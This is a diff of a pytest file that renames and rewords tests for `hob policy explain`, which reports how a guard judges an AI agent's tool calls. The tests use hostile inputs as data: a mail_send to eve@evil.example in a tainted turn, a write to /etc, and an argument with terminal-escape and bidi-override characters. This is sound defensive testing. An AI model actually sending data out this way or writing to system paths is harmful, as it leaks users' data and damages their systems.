@@ -1,4 +1,4 @@
-"""`hob policy explain`: what it prints about a call."""
+"""`hob policy explain`: its output about a call."""
 
 import json
 import os
@@ -22,12 +22,12 @@ from tests.guard.calling import POLICY, READER, SPECS
 GUARDING = GuardSetup(POLICY, READER, tuple(SPECS.values()))
 
 
-def test_verdict_stands_first_then_why_and_what_each_stage_said(capsys: pytest.CaptureFixture[str]) -> None:
+def test_explanation_starts_with_the_verdict_then_reasons_and_stages(capsys: pytest.CaptureFixture[str]) -> None:
     supposed = HypotheticalTurn(tainted=True, words="write a summary to bob@example.com")
     explain_call(GUARDING, "mail_send", '{"to": "eve@evil.example", "body": "x"}', supposed)
     lines = capsys.readouterr().out.splitlines()
     assert lines[0].startswith("needs your approval: What could send data out needs approval")
-    assert "taint" not in lines[0]  # programs get the name of the rule
+    assert "taint" not in lines[0]  # --json has the name of the rule
     assert lines[1] == "  because it could send data out, and your own words do not name where to"
     assert lines[2] == "effects: it would send something to somebody"
     assert lines[3] == "risk of the call itself: high (it can do harm); the verdict above takes it into account"
@@ -42,13 +42,13 @@ def test_call_that_cannot_be_read_is_refused_with_one_reason_and_no_table(capsys
     assert "there is no tool nope here" in told
 
 
-def test_file_tools_have_the_last_word_on_a_path(capsys: pytest.CaptureFixture[str]) -> None:
+def test_explanation_says_that_file_tools_check_paths_themselves(capsys: pytest.CaptureFixture[str]) -> None:
     """An allowed write to /etc was told as if it would happen."""
     explain_call(GUARDING, "write", '{"path": "/etc/nothing", "content": "x"}', HypotheticalTurn(mode=Mode.FULL))
     assert capsys.readouterr().out.splitlines()[-1].endswith("is refused by the tool itself; `hob tools test` tells")
 
 
-def test_risk_of_an_allowed_call_is_told_apart_from_the_verdict(capsys: pytest.CaptureFixture[str]) -> None:
+def test_risk_of_an_allowed_call_is_shown_apart_from_the_verdict(capsys: pytest.CaptureFixture[str]) -> None:
     # "In short: it is risky" under "allowed" read as a second verdict
     words = HypotheticalTurn(words="mail bob@example.com")
     explain_call(GUARDING, "mail_send", '{"to": "bob@example.com", "body": "x"}', words)
@@ -98,7 +98,7 @@ def test_tool_of_a_server_is_judged_as_the_owner_accepted_it(
         ("read", "{", HypotheticalTurn(), "refused: The arguments are not a JSON object"),
     ],
 )
-def test_call_is_judged_as_in_the_turn_that_is_supposed(
+def test_call_is_judged_as_in_the_hypothetical_turn(
     tool: str, text: str, supposed: HypotheticalTurn, said: str, capsys: pytest.CaptureFixture[str]
 ) -> None:
     explain_call(GUARDING, tool, text, supposed)
@@ -116,7 +116,9 @@ def test_call_is_judged_as_in_the_turn_that_is_supposed(
         (HypotheticalTurn(mode=Mode.READ_ONLY), "refused: In the conversation's mode Hob may not do it."),
     ],
 )
-def test_mode_is_told_as_it_decided(supposed: HypotheticalTurn, said: str, capsys: pytest.CaptureFixture[str]) -> None:
+def test_explanation_names_the_mode_that_decided(
+    supposed: HypotheticalTurn, said: str, capsys: pytest.CaptureFixture[str]
+) -> None:
     explain_call(GUARDING, "exec", "git status", supposed)
     assert capsys.readouterr().out.splitlines()[0] == said
 
@@ -127,7 +129,7 @@ def test_tool_without_the_arguments_it_needs_is_not_judged() -> None:
         explain_call(replace(GUARDING, specs=(read,)), "read", "", HypotheticalTurn())
 
 
-def test_tool_that_is_not_there_is_taken_at_its_worst(capsys: pytest.CaptureFixture[str]) -> None:
+def test_unknown_tool_counts_as_the_worst(capsys: pytest.CaptureFixture[str]) -> None:
     explain_call(GUARDING, "mcp_thing", "{}", HypotheticalTurn())
     said = capsys.readouterr().out
     assert said.startswith("needs your approval: ")
@@ -141,7 +143,7 @@ def test_programs_get_json(capsys: pytest.CaptureFixture[str]) -> None:
     assert said["stages"] == [{"stage": "mode", "verdict": "allow", "rule": "mode.write"}]
 
 
-def test_nothing_in_the_arguments_reaches_the_terminal(capsys: pytest.CaptureFixture[str]) -> None:
+def test_control_characters_in_arguments_do_not_reach_the_terminal(capsys: pytest.CaptureFixture[str]) -> None:
     explain_call(GUARDING, "read", "~/.hob/\x1b[2Kx\u202e", HypotheticalTurn())
     assert not {"\x1b", "\u202e"} & set(capsys.readouterr().out)
 
@@ -171,7 +173,7 @@ def test_command_needs_no_daemon_and_touches_nothing(tmp_path: Path) -> None:
         ),
     ],
 )
-def test_risk_is_explained_by_what_was_found_alone(
+def test_risk_is_explained_only_by_its_findings(
     command: str, found: str, not_found: str, capsys: pytest.CaptureFixture[str]
 ) -> None:
     explain_call(GUARDING, "exec", command, HypotheticalTurn(tainted=True))
